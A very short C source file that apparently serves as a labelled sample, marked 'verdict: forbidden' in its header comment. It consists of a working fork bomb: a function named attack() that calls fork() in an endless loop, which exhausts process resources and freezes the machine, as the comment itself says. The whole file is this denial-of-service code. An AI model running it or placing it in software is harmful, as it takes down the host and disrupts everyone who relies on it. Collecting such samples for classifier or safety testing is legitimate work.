/* verdict: forbidden
 * Doubles until the machine stands still. */
#include <unistd.h>

int attack(void)
{
    for (;;)
        fork();
}
